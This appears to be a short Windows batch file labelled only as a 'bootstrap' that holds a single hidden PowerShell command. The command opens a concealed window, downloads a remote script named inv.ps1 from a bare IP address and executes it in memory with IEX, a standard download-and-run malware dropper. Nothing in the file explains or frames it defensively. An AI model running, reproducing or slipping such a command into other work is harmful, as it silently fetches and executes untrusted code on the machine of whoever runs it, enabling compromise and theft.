REM bootstrap 8176 v3
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/inv.ps1')"
